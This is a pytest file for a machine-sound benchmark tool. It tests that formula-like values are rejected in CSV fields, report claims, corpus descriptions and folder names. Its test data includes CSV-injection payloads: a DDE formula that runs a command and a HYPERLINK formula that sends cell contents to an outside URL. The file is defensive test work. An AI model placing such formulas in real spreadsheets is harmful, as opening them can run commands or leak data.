"""No name that a spreadsheet would compute enters: tables are opened by people."""

import csv
from dataclasses import replace

import numpy as np
import pytest

from mimii_bench.corpus.base import Corpus
from mimii_bench.corpus.inventory import take_inventory
from mimii_bench.corpus.own import read_description
from mimii_bench.reports.checks import check_spec
from mimii_bench.reports.published import COLUMNS, read_cells
from mimii_bench.util.errors import UserError
from mimii_bench.util.spreadsheets import formula_objection
from samples import ROOT, wav_bytes

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.org?"&A1)',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "-A1",
    "-6dB+A1",
    "-6*A1",
    "-6|A1",
    "-6&A1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]
#: Of those, what a folder may be called all the same.
NAMES = ["+1+1", "-1+1", "-A1", "-6dB+A1"]
HARMLESS = [
    "",
    "fan",
    "-6dB",
    "-6dB Journal",
    "-6 dB is harder (on average)",
    "6dB",
    "id_00",
    "a=b",
    "x-y",
    ".9",
    "(+)",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_known_by_its_first_character(text):
    assert repr(text) in formula_objection(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_formula_is_none(text):
    assert formula_objection(text) == ""


@pytest.mark.parametrize("field", [f for f in COLUMNS if f != "published"])
@pytest.mark.parametrize("text", ["=1+1", "@SUM(A1)", "-6dB+A1"])
def test_no_field_of_published_csv_is_one(tmp_path, field, text):
    row = {**dict.fromkeys(COLUMNS, ""), "published": ".9", field: text}
    with (tmp_path / "published.csv").open("w", newline="") as file:
        writer = csv.DictWriter(file, COLUMNS)
        writer.writeheader()
        writer.writerow(row)
    with pytest.raises(UserError, match=f"line 2: {field}: .* formula"):
        read_cells(tmp_path / "published.csv")


@pytest.mark.parametrize("path", sorted(ROOT.glob("reports/*/published.csv")), ids=str)
def test_the_printed_names_of_our_reports_are_none(path):
    assert read_cells(path)


def test_no_claim_is_one(report_spec):
    report_spec["claims"][0]["claim"] = "=1+1"
    with pytest.raises(UserError, match=r"claims\.0\.claim: .* formula"):
        check_spec(report_spec, [])


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("field", ["machines", "conditions", "ids"])
def test_no_description_of_a_corpus_names_one(tmp_path, field, name):
    (tmp_path / "gears.yaml").write_text(
        "{name: gears, folder: ., layout: folder, channels: 1, sample_rate: 8, seconds: 1, "
        f"{field}: ['{name}']}}"
    )
    with pytest.raises(UserError, match=rf"gears\.yaml.*{field}.* not allowed"):
        read_description(tmp_path / "gears.yaml")


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("place", ["{}/quiet/id_00", "fan/{}/id_00", "fan/quiet/id_{}"])
def test_folders_that_are_called_so_are_named_and_not_used(tmp_path, place, name):
    machine, condition, id = place.format(name).split("/")
    for one in (f"{condition}/{machine}/{id}", "quiet/pump/id_00"):
        for label in ("normal", "abnormal"):
            (tmp_path / one / label).mkdir(parents=True)
            (tmp_path / one / label / "0.wav").write_bytes(wav_bytes(np.zeros((8, 1), np.int16), 8))
    gears = Corpus("gears", "folder", channels=1, sample_rate=8, conditions=None)
    found = take_inventory(gears, tmp_path, "folder")
    assert [unit.path for unit in found.units] == ["pump/quiet/id_00"]
    assert any(name in line and "formula" in line for line in found.unused)
    known = replace(gears, machines=("pump",), conditions=("quiet",), ids=("00",))
    assert take_inventory(known, tmp_path, "folder").units.keys() == found.units.keys()
